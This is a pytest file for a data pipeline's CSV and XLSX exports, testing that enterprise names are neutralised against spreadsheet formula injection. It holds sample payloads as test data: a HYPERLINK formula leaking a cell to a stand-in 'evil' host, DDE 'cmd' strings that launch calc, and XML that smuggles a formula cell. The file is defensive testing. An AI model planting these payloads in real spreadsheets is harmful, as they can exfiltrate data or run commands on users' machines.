"""CSV injection: every CSV and XLSX written for people shows a would-be formula as text.

Enterprise names are ingested as registered, so ``=HYPERLINK("http://evil"&B4,"x")`` can
reach an export. The exports are checked on tiny hand-made inputs (no session fixtures):
the written bytes and cells, not the frames in memory.
"""

from __future__ import annotations

import csv
import io
import pathlib

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from models.classes import ClassScheme, Condition
from models.sampling import Campaign
from models.warning import MonitoringRule, WarningConfig
from pipelines import io as pio
from pipelines.config import load_config
from pipelines.feedback import read_plan, read_results, run_feedback
from pipelines.intake.config import IngestConfig
from pipelines.intake.findings import link
from pipelines.io import csv_text, formula_safe, formula_safe_text, write_csv, write_xlsx
from pipelines.plan import run_plan
from pipelines.warn import run_warn
from tests.conftest import ROOT

HYPERLINK = '=HYPERLINK("http://evil"&B4,"x")'
EVIL = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000@SUM(A1)",
    "-",
    "+",
]
MONTH = "2026-10"


def _could_run(cell: str) -> bool:
    """What a spreadsheet may evaluate, judged independently of the code under test."""
    head = cell.lstrip()
    if not cell or not (cell[0] in "=+-@\t\r" or (head and head[0] in "=+-@")):
        return False
    try:
        float(cell.strip(" "))
    except ValueError:
        return True
    return False  # a signed number is a value


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_csv_safe(data: bytes) -> list[list[str]]:
    rows = _csv_cells(data)
    live = [c for row in rows for c in row if _could_run(c)]
    assert not live, f"cells a spreadsheet would run: {live[:5]}"
    return rows


# --- formula_safe, cell by cell ---------------------------------------------------------------


@pytest.mark.parametrize("text", EVIL)
def test_a_would_be_formula_gets_an_apostrophe(text: str) -> None:
    assert formula_safe_text(text) == "'" + text
    assert not _could_run(formula_safe_text(text))


@pytest.mark.parametrize("text", ["-12.5", "+86", "0", " -3 ", "1e5", "-1e+5", ".5"])
def test_a_plain_number_is_left_as_it_is(text: str) -> None:
    assert formula_safe_text(text) == text


@pytest.mark.parametrize(
    "text", ["河南某某食品有限公司", "a=b", "", "'=1+1", "(=1)", "91410100MA9XXXXX0X"]
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert formula_safe_text(text) == text


def test_a_tab_before_a_number_is_still_prefixed() -> None:
    assert formula_safe_text("\t12") == "'\t12"


def test_the_frame_is_new_text_is_safe_and_the_rest_untouched() -> None:
    raw = pd.DataFrame(
        {
            "name": pd.Series([*EVIL[:4], "ok", None], dtype="str"),
            "obj": pd.Series(["=1+1", None, np.nan, 5, ("=x",), "-7"], dtype=object),
            "cat": pd.Categorical(["@a", "b", None, "@a", "b", "b"]),
            "=total": [1.5, -2.0, np.nan, 3.0, 4.0, 5.0],
            "n": [1, -2, 3, 4, 5, 6],
            "flag": [True, False, True, False, True, False],
            "when": pd.to_datetime(
                ["2026-10-01", None, "2026-10-03", "2026-10-04", None, "2026-10-06"]
            ),
        }
    )
    before = raw.copy(deep=True)
    safe = formula_safe(raw)
    pd.testing.assert_frame_equal(raw, before)  # the caller's frame is not touched
    assert list(safe.columns) == ["name", "obj", "cat", "'=total", "n", "flag", "when"]
    assert safe["name"].tolist()[:5] == ["'" + t for t in EVIL[:4]] + ["ok"]
    assert safe["obj"].tolist()[0] == "'=1+1" and safe["obj"].tolist()[3:] == [5, ("=x",), "-7"]
    assert safe["cat"].tolist()[0] == "'@a" and isinstance(safe["cat"].dtype, pd.CategoricalDtype)
    for col in ("name", "obj", "cat"):  # missing stays missing
        pd.testing.assert_series_equal(safe[col].isna(), raw[col].isna())
    assert safe["name"].dtype == raw["name"].dtype
    for col in ("n", "flag", "when"):
        pd.testing.assert_series_equal(safe[col], raw[col])
    pd.testing.assert_series_equal(safe["'=total"], raw["=total"], check_names=False)
    pd.testing.assert_frame_equal(formula_safe(safe), safe)  # idempotent


def test_csv_text_and_write_csv_are_safe(tmp_path) -> None:  # type: ignore[no-untyped-def]
    frame = pd.DataFrame({"name": EVIL, "@v": range(len(EVIL))})
    text = csv_text(frame)
    rows = _assert_csv_safe(text.encode("utf-8"))
    assert rows[0] == ["name", "'@v"] and [r[0] for r in rows[1:]] == ["'" + t for t in EVIL]
    write_csv(frame, tmp_path / "t.csv")
    data = (tmp_path / "t.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8-sig") == text
    assert list(tmp_path.iterdir()) == [tmp_path / "t.csv"]  # no temporary file left


def test_a_carriage_return_inside_a_cell_does_not_start_a_row() -> None:
    frame = pd.DataFrame({"name": ["ACME\r=1+1", "ACME\n=1+1", "ACME\r\n@SUM(A1)"], "n": 1})
    rows = _assert_csv_safe(csv_text(frame).encode("utf-8"))
    assert rows == [["name", "n"], *[[t, "1"] for t in frame["name"]]]


def _assert_xlsx_safe(path, sheet: str) -> list[list[object]]:  # type: ignore[no-untyped-def]
    ws = load_workbook(path)[sheet]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    live = [c.value for c in cells if isinstance(c.value, str) and _could_run(c.value)]
    assert not live, f"cells a spreadsheet would run: {live[:5]}"
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_write_xlsx_stores_text_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    frame = pd.DataFrame({"name": EVIL, "=v": np.arange(len(EVIL), dtype=float)})
    write_xlsx(frame, tmp_path / "t.xlsx", sheet_name="plan")
    rows = _assert_xlsx_safe(tmp_path / "t.xlsx", "plan")
    assert rows[0] == ["name", "'=v"]
    # XlsxWriter keeps a carriage return as the OOXML escape _x000D_ (Excel shows the
    # character; openpyxl reads the escape back as written): the text is kept, not run
    assert [r[0] for r in rows[1:]] == ["'" + t.replace("\r", "_x000D_") for t in EVIL]
    assert [r[1] for r in rows[1:]] == list(range(len(EVIL)))  # numbers stay numbers


def test_write_xlsx_never_stores_a_formula_even_without_the_prefix(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(pio, "formula_safe", lambda frame: frame)  # the second defence alone
    write_xlsx(pd.DataFrame({"name": ["=1+1", HYPERLINK]}), tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx")["Sheet1"]
    assert [(c.value, c.data_type) for c in ws["A"][1:]] == [("=1+1", "s"), (HYPERLINK, "s")]


def test_write_xlsx_never_writes_text_as_rich_text_xml(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """XlsxWriter writes a text between <r> and </r> as raw XML: a name built that way could
    close its cell and open a formula cell. It is written as text, with the prefix."""
    payload = (
        '<r><t>x</t></r></is></c><c r="C2"><f>HYPERLINK("http://evil.example","click")</f>'
        '<v>click</v></c><c r="D2" t="inlineStr"><is><r><t>y</t></r>'
    )
    write_xlsx(pd.DataFrame({"name": [payload, "<r>a</r>"]}), tmp_path / "t.xlsx")
    rows = _assert_xlsx_safe(tmp_path / "t.xlsx", "Sheet1")
    assert rows == [["name"], ["'" + payload], ["'<r>a</r>"]]


def test_write_xlsx_refuses_what_a_sheet_cannot_hold(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """More rows than a worksheet has, or a text longer than a cell holds, is an error naming
    the rule, never a workbook silently cut short."""
    with pytest.raises(ValueError, match=r"column note, row 2: 40,000 characters .*cell size"):
        write_xlsx(pd.DataFrame({"note": ["ok", "x" * 40_000]}), tmp_path / "long.xlsx")
    monkeypatch.setattr(pio, "XLSX_MAX_ROWS", 4)
    with pytest.raises(ValueError, match=r"5 rows x 1 columns do not fit.*sheet size"):
        write_xlsx(pd.DataFrame({"n": range(5)}), tmp_path / "big.xlsx")
    assert not (tmp_path / "long.xlsx").exists() and not (tmp_path / "big.xlsx").exists()


# --- the exports ------------------------------------------------------------------------------


def _province(tmp_path, n: int = 12):  # type: ignore[no-untyped-def]
    """Classes of MONTH and a registry where every enterprise's name starts like a formula."""
    uscc = [f"91410100MA{i:08d}" for i in range(n)]
    outputs, interim = tmp_path / "outputs", tmp_path / "interim"
    (outputs / MONTH).mkdir(parents=True)
    interim.mkdir()
    pd.DataFrame(
        {
            "uscc": uscc,
            "class_final": [("A", "B", "C", "D")[i % 4] for i in range(n)],
            "scheme": "henan",
            "score": [100.0 + 70 * i for i in range(n)],
            "model_version": "v1",
        }
    ).to_parquet(outputs / MONTH / "classes.parquet", index=False)
    pd.DataFrame(
        {
            "uscc": uscc,
            "name": [EVIL[i % len(EVIL)] for i in range(n)],
            "division_code": "410102",
            "status": "operating",
            "sector_tags": "",
        }
    ).to_parquet(interim / "enterprises.parquet", index=False)
    return outputs, interim


def _plan(tmp_path, name: str = "routine"):  # type: ignore[no-untyped-def]
    outputs, interim = _province(tmp_path)
    scheme = load_config(ROOT / "configs" / "classes" / "henan.yaml", ClassScheme)
    campaign = load_config(ROOT / "configs" / "campaigns" / "routine.yaml", Campaign)
    # every enterprise drawn, so every name reaches the files
    campaign = campaign.model_copy(update={"name": name, "rates": dict.fromkeys("ABCD", 1.0)})
    return run_plan(MONTH, campaign, scheme, 5, outputs, interim), interim


def test_plan_csv_and_xlsx_are_formula_safe(tmp_path) -> None:  # type: ignore[no-untyped-def]
    run, _ = _plan(tmp_path)
    assert set(run.plan["name"]) == set(EVIL)  # the frame in memory keeps the registry's names
    rows = _assert_csv_safe((run.folder / "plan.csv").read_bytes())
    name = rows[0].index("name")
    assert {r[name] for r in rows[1:]} == {"'" + t for t in EVIL}
    data = (run.folder / "plan.csv").read_bytes()
    assert b',"\'=HYPERLINK(""http://evil""&B4,""x"")",' in data and b',"=HYPERLINK' not in data
    xrows = _assert_xlsx_safe(run.folder / "plan.xlsx", "plan")
    assert xrows[0] == rows[0]
    assert {r[name] for r in xrows[1:]} == {"'" + t.replace("\r", "_x000D_") for t in EVIL}


def test_warnings_csv_is_formula_safe(tmp_path) -> None:  # type: ignore[no-untyped-def]
    outputs, interim = _province(tmp_path)
    features = tmp_path / "features"
    features.mkdir()
    classes = pd.read_parquet(outputs / MONTH / "classes.parquet")
    pd.DataFrame({"uscc": classes["uscc"], "chg": 7.0}).to_parquet(
        features / f"{MONTH}.parquet", index=False
    )
    cfg = WarningConfig(
        rise_classes=1,
        rise_score=200,
        rules=(
            MonitoringRule(
                name="burst",
                zh="频繁变更",
                en="burst",
                when=(Condition(feature="chg", op=">=", value=5),),
            ),
        ),
    )
    scheme = load_config(ROOT / "configs" / "classes" / "henan.yaml", ClassScheme)
    run = run_warn(MONTH, cfg, scheme, outputs, features, interim)
    assert len(run.table) == len(classes) and set(run.table["name"]) == set(EVIL)
    rows = _assert_csv_safe(run.out.with_suffix(".csv").read_bytes())
    name = rows[0].index("name")
    assert {r[name] for r in rows[1:]} == {"'" + t for t in EVIL}


def _results(plan: pd.DataFrame, plan_id: str) -> pd.DataFrame:
    firms = plan.drop_duplicates("uscc").reset_index(drop=True)
    return pd.DataFrame(
        {
            "plan_id": plan_id,
            "uscc": firms["uscc"],
            "inspection_id": [f"FB{i:04d}" for i in range(len(firms))],
            "inspection_date": "2026-11-12",
            "result": "no_problem",
            "problem_found": "false",
            "problem_category": "",
            "received_date": "2026-11-20",
        }
    )


def test_feedback_rejected_csv_is_formula_safe(tmp_path) -> None:  # type: ignore[no-untyped-def]
    run, interim = _plan(tmp_path)
    results = _results(run.plan, HYPERLINK)  # another plan's id, and a hostile one: all rejected
    results["inspection_id"] = [EVIL[i % len(EVIL)].strip() + str(i) for i in range(len(results))]
    path = tmp_path / "results.csv"
    results.to_csv(path, index=False, encoding="utf-8-sig")
    ingest_cfg = load_config(ROOT / "configs" / "ingest.yaml", IngestConfig)
    fb = run_feedback(run.folder, path, interim, tmp_path / "feedback", ingest_cfg)
    assert fb.summary["rejected_by_rule"] == {"other_plan": len(results)}
    rows = _assert_csv_safe((fb.folder / "rejected.csv").read_bytes())
    header = rows[0]
    assert {r[header.index("plan_id")] for r in rows[1:]} == {"'" + HYPERLINK}
    assert fb.rejected["plan_id"].eq(HYPERLINK).all()  # the frame in memory is not changed


def test_feedback_links_a_plan_whose_id_starts_like_a_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
    run, _ = _plan(tmp_path, name="-urgent")
    plan_id = run.summary["plan_id"]
    assert plan_id.startswith("-urgent-")
    assert "'" + plan_id in (run.folder / "plan.csv").read_text(encoding="utf-8-sig")
    plan, info = read_plan(run.folder)
    assert plan["plan_id"].eq(plan_id).all() and info["plan_id"] == plan_id
    path = tmp_path / "results.csv"
    _results(run.plan, plan_id).to_csv(path, index=False)
    linked, rejected = link(plan, read_results(path))
    assert rejected.empty and len(linked) == run.plan["uscc"].nunique()
    assert linked["plan_id"].eq(plan_id).all()  # the delivery carries the id as drawn


def test_workbooks_carry_no_wall_clock(tmp_path: pathlib.Path) -> None:
    """openpyxl stamps the time of writing; write_xlsx replaces it, so the bytes reproduce."""
    import zipfile

    from pipelines.io import FIXED_TIME, write_xlsx

    write_xlsx(pd.DataFrame({"name": ["=1+1", "某某公司"], "n": [1, 2]}), tmp_path / "a.xlsx")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {FIXED_TIME}
        core = z.read("docProps/core.xml").decode()
    assert core.count("1980-01-01T00:00:00Z") == 2
    rows = [[c.value for c in r] for r in load_workbook(tmp_path / "a.xlsx").active.iter_rows()]
    assert rows == [["name", "n"], ["'=1+1", 1], ["某某公司", 2]]


def test_atomic_write_leaves_no_temporary_file_when_the_write_fails(tmp_path) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "f.parquet"
    target.write_text("before", encoding="utf-8")

    def fails(tmp: pathlib.Path) -> None:
        tmp.write_text("half", encoding="utf-8")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        pio.atomic_write(target, fails)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f.parquet"]
    assert target.read_text(encoding="utf-8") == "before"
